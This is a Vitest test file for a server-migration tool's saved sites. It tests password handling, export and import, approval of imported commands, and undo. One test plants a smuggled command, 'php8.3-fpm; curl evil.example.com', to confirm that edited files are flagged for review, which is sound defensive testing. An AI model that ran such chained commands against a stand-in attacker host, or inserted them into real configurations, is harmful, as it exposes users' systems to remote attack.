import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { openLiveDocument } from '../../src/main/engine/live-document'
import { allowSite, changesOfSite, createMove, listSites, removeSite, saveSite } from '../../src/main/engine/site-shelf'
import { previewSite, useSite } from '../../src/main/engine/use-site'
import { failureOf } from '../../src/shared/failure'
import { type Move, moveSchema } from '../../src/shared/move'
import { emptyReview } from '../../src/shared/move-review'
import { freshShelf, givenMove, type Shelf } from './shelf'

describe('sites saved by themselves', () => {
  let dir: Shelf['dir']
  let moves: Shelf['moves']
  let sites: Shelf['sites']
  let secrets: Shelf['secrets']
  let keychain: Shelf['keychain']
  let opening: Shelf['opening']

  beforeEach(() => {
    const shelf = freshShelf()
    ;({ dir, moves, sites, secrets, keychain, opening } = shelf)
    return shelf.end
  })
  const deps = () => ({ moves, sites, secrets })

  describe('saved sites', () => {
    const saved = async (withSecrets: boolean) => {
      const { move } = await moves.importFrom(givenMove, true)
      await secrets.set(move.id, 'db/fra-db1', 'of the database', 'keychain')
      await secrets.set(move.id, 'ssh/fra-db1/1/passphrase', 'of the key', 'session')
      await secrets.set(move.id, 'db/lis-db2', 'of the other site', 'keychain')
      await secrets.set(move.id, 'made/canary', 'made', 'keychain')
      return { move, ...(await saveSite(deps(), move, 'old', { name: 'Frankfurt', secrets: withSecrets })) }
    }

    it('hold their servers, and copies of their own passwords only', async () => {
      const { siteId, missed } = await saved(true)
      expect(missed).toEqual([])
      expect(await listSites(deps())).toMatchObject([
        {
          id: siteId,
          name: 'Frankfurt',
          servers: [{ name: 'fra-db1' }, { name: 'fra-web1' }],
          secrets: 2,
          broken: null
        }
      ])
      expect(readFileSync(join(dir, 'sites', `${siteId}.json`), 'utf8')).not.toMatch(/of the database|of the key/)
    })

    it('begin moves as either side, with passwords of their own', async () => {
      const { siteId, move } = await saved(true)
      const { moveId } = await createMove(deps(), {
        name: 'Back',
        oldSite: 'Oslo',
        newSite: 'Frankfurt am Main',
        newSaved: siteId
      })
      const made = await moves.read(moveId)
      expect(made.new).toEqual({ ...move.old, name: 'Frankfurt am Main' })
      expect(made.old).toEqual({ name: 'Oslo', servers: [] })
      expect(await secrets.get(moveId, 'db/fra-db1')).toBe('of the database')
      expect(await secrets.state(moveId, 'ssh/fra-db1/1/passphrase')).toEqual({ kind: 'kept', where: 'session' })
      await removeSite(deps(), siteId)
      await secrets.remove(move.id)
      expect(await secrets.get(moveId, 'db/fra-db1')).toBe('of the database')
      expect(await opening(moveId)).toBe('opened')
    })

    it('that share ids of servers get free ones, their passwords go along, and one database each is a pair', async () => {
      const { siteId, move } = await saved(true)
      const twin = { ...move, old: { ...move.old, servers: move.old.servers.slice(0, 1) } }
      await secrets.set(move.id, 'db/fra-db1', 'of the twin', 'keychain')
      const other = await saveSite(deps(), twin, 'old', { name: 'Twin', secrets: true })
      const { moveId } = await createMove(deps(), {
        name: 'Both',
        oldSite: 'A',
        newSite: 'B',
        oldSaved: siteId,
        newSaved: other.siteId
      })
      const made = await moves.read(moveId)
      expect(made.new.servers.map(({ id }) => id)).toEqual(['fra-db1-2'])
      expect(made.pairs).toEqual([{ old: 'fra-db1', new: 'fra-db1-2' }])
      expect(await secrets.get(moveId, 'db/fra-db1-2')).toBe('of the twin')
      expect(await secrets.get(moveId, 'ssh/fra-db1-2/1/passphrase')).toBe('of the key')
    })

    it('are kept whatever they are called', async () => {
      const { move } = await saved(false)
      // A sign that stands for four letters, as often as a name may be long.
      const names = ['㎉'.repeat(40), '東京', `${'a'.repeat(39)}-`, '- -', 'con']
      for (const name of names) await saveSite(deps(), move, 'old', { name, secrets: false })
      expect((await listSites(deps())).map(({ name }) => name).sort()).toEqual([...names, 'Frankfurt'].sort())
    })

    it('are replaced by one of the same name, and without passwords when so wished', async () => {
      const { siteId, move } = await saved(true)
      const again = await saveSite(deps(), move, 'old', { name: 'Frankfurt', secrets: false })
      expect(again.siteId).toBe(siteId)
      expect(await listSites(deps())).toMatchObject([{ secrets: 0 }])
    })

    it('name the passwords a locked keychain did not give, and those that are damaged say so', async () => {
      const { siteId } = await saved(true)
      keychain.chain.locked = true
      const { missed } = await createMove(deps(), { name: 'Later', oldSite: 'A', newSite: 'B', oldSaved: siteId })
      expect(missed).toEqual(['db/fra-db1'])
      writeFileSync(join(dir, 'sites', `${siteId}.json`), '{')
      expect(await listSites(deps())).toMatchObject([{ id: siteId, broken: { kind: 'invalid' } }])
    })

    it('of an earlier version are read, of a newer one refused', async () => {
      const { siteId } = await saved(false)
      const path = join(dir, 'sites', `${siteId}.json`)
      const text = readFileSync(path, 'utf8')
      writeFileSync(path, text.replace('"version": 2', '"version": 1'))
      expect((await sites.read(siteId)).servers).toHaveLength(2)
      writeFileSync(path, text.replace('"version": 2', '"version": 9'))
      expect(await sites.read(siteId).then(() => null, failureOf)).toMatchObject({
        what: expect.stringContaining('newer Siteswap')
      })
    })
  })

  describe('saved sites as files', () => {
    const exported = async () => {
      const { move } = await moves.importFrom(givenMove, true)
      await secrets.set(move.id, 'db/fra-db1', 'of the database', 'keychain')
      const { siteId } = await saveSite(deps(), move, 'old', { name: 'Frankfurt', secrets: true })
      const path = join(dir, 'frankfurt.site.siteswap.json')
      await sites.exportTo(siteId, path)
      return { move, siteId, path }
    }

    it('are given away without passwords and taken in beside one of the same name', async () => {
      const { move, siteId, path } = await exported()
      expect(readFileSync(path, 'utf8')).not.toContain('of the database')
      const taken = await sites.importFrom(path)
      expect([taken.site.name, taken.id === siteId]).toEqual(['Frankfurt (2)', false])
      expect((await sites.read(taken.id)).servers).toEqual(move.old.servers)
      expect(await secrets.refs(`site:${taken.id}`)).toEqual([])
    })

    it('are used by no move before a person has allowed just what they ask for', async () => {
      const { path } = await exported()
      const { id } = await sites.importFrom(path)
      const listed = async () => (await listSites(deps())).find((site) => site.id === id)
      const review = (await listed())?.review ?? emptyReview
      expect(review.contacts[0]).toBe('deploy@bastion.fra.example.com:22')
      expect(review.commands).toEqual(['fra-web1: systemctl reload php8.3-fpm'])
      const begin = () => createMove(deps(), { name: 'From a file', oldSite: 'A', newSite: 'B', oldSaved: id })
      expect(await begin().then(() => null, failureOf)).toMatchObject({ kind: 'denied' })
      expect((await moves.list()).some(({ name }) => name === 'From a file')).toBe(false)
      const less = await allowSite(sites, id, { ...review, commands: [] }).then(() => null, failureOf)
      expect(less).toMatchObject({ kind: 'conflict' })
      await allowSite(sites, id, review)
      expect((await listed())?.review).toBeNull()
      expect(await opening((await begin()).moveId)).toBe('opened')
    })

    it('ask again for what an editor put into them', async () => {
      const { siteId } = await exported()
      const path = join(dir, 'sites', `${siteId}.json`)
      writeFileSync(path, readFileSync(path, 'utf8').replace('php8.3-fpm', 'php8.3-fpm; curl evil.example.com'))
      expect(await listSites(deps())).toMatchObject([
        {
          review: {
            contacts: [],
            commands: ['fra-web1: systemctl reload php8.3-fpm; curl evil.example.com'],
            files: []
          }
        }
      ])
    })

    it('are told from moves, and a damaged one is refused with its place', async () => {
      const { path } = await exported()
      expect(await moves.importFrom(path).then(() => null, failureOf)).toMatchObject({
        what: 'This is a saved site, not a whole move.'
      })
      expect(await sites.importFrom(givenMove).then(() => null, failureOf)).toMatchObject({
        what: 'This is a whole move, not a saved site.'
      })
      writeFileSync(path, '{"format": "siteswap.site", "version": 2, "site": {"name": "x", "servers": [{}]}}')
      expect(await sites.importFrom(path).then(() => null, failureOf)).toMatchObject({
        kind: 'invalid',
        where: path,
        why: expect.stringContaining('old.servers.0')
      })
      expect(await listSites(deps())).toHaveLength(1)
    })
  })

  describe('a saved site in an opened move', () => {
    /** Two sites with a pair; the saved one is the old side with a mark and one field changed. */
    const opened = async () => {
      const { move } = await moves.importFrom(givenMove, true)
      const mark = { label: 'production', colour: 'rose' as const }
      const servers = move.old.servers.map((server) => ({ ...server, note: 'as saved' }))
      const saved = { ...move, old: { ...move.old, mark, servers } }
      await secrets.set(move.id, 'db/fra-db1', 'saved with it', 'keychain')
      const { siteId } = await saveSite(deps(), saved, 'old', { name: 'Frankfurt saved', secrets: true })
      let now = move
      const live = {
        move: () => now,
        put: async (next: Move) => {
          now = next
        },
        retry: () => {}
      }
      return { move, siteId, live, mark }
    }

    it('takes the place of one: ids, pairs and places stay with the servers that stay', async () => {
      const { move, siteId, live, mark } = await opened()
      const wanted = { siteId, side: 'old' as const, use: 'replace' as const }
      const told = await previewSite(deps(), move, wanted)
      expect(told.changes.map(({ subject, field }) => `${subject} ${field}`)).toEqual([
        ...['old site name', 'old site mark.label', 'old site mark.colour', 'fra-db1 note', 'fra-web1 note']
      ])
      expect([told.brings, told.forgets]).toEqual([1, 0])
      expect(live.move()).toBe(move)
      expect(await useSite(deps(), live, wanted)).toEqual({ missed: [] })
      expect(live.move().old).toMatchObject({ name: 'Frankfurt saved', mark })
      expect(live.move().pairs).toEqual(move.pairs)
      expect(live.move().layout).toEqual(move.layout)
    })

    it('stands beside what is there with ids, marks and passwords of its own', async () => {
      const { move, siteId, live, mark } = await opened()
      await secrets.set(move.id, 'db/fra-db1', 'changed since', 'keychain')
      await useSite(deps(), live, { siteId, side: 'new', use: 'add' })
      const { servers, name } = live.move().new
      expect(name).toBe('Lisbon')
      expect(servers.map(({ id }) => id)).toEqual(['lis-db2', 'fra-db1-2', 'fra-web1-2'])
      expect(servers.map((server) => server.mark)).toEqual([undefined, mark, mark])
      expect(await secrets.get(move.id, 'db/fra-db1-2')).toBe('saved with it')
      expect(await secrets.get(move.id, 'db/fra-db1')).toBe('changed since')
    })

    it('that replaces the other side says which passwords go, and drops what named its servers', async () => {
      const { move, siteId, live } = await opened()
      await secrets.set(move.id, 'db/lis-db2', 'goes', 'keychain')
      const wanted = { siteId, side: 'new' as const, use: 'replace' as const }
      expect(await previewSite(deps(), move, wanted)).toMatchObject({ brings: 1, forgets: 1 })
      await useSite(deps(), live, wanted)
      expect(live.move().pairs).toEqual([{ old: 'fra-db1', new: 'fra-db1-2' }])
      expect(moveSchema.safeParse(live.move()).success).toBe(true)
    })

    it('is one edit of the document, which one undo takes back, and open forms begin anew', async () => {
      const { move, siteId } = await opened()
      const document = await openLiveDocument({
        ...{ moves, moveId: move.id, first: await moves.readKept(move.id), mayBecome: () => {} },
        ...{ onMove: async () => {}, onState: () => {}, note: async () => {} },
        follow: async (mapping) => void (await secrets.follow(move.id, mapping))
      })
      const live = { ...document, retry: () => {} }
      await useSite(deps(), live, { siteId, side: 'new', use: 'add' })
      expect(document.state()).toMatchObject({ epoch: 1, undo: '2 changes of fra-db1, fra-web1' })
      expect((await moves.read(move.id)).new.servers).toHaveLength(3)
      await document.undo()
      expect(await moves.read(move.id)).toEqual(move)
      await document.close()
    })

    it('is brought up to date by saving it again, and what that changes is told before', async () => {
      const { move, siteId } = await opened()
      const changes = await changesOfSite(sites, siteId, move, 'old')
      expect(changes.map(({ subject, field, before, after }) => [subject, field, before, after])).toEqual([
        ['site', 'mark.label', 'production', null],
        ['site', 'mark.colour', 'rose', null],
        ['fra-db1', 'note', 'as saved', '(empty)'],
        ['fra-web1', 'note', 'as saved', 'the one behind the balancer']
      ])
      await saveSite(deps(), move, 'old', { name: 'Frankfurt saved', secrets: false })
      expect(await changesOfSite(sites, siteId, move, 'old')).toEqual([])
    })
  })
})
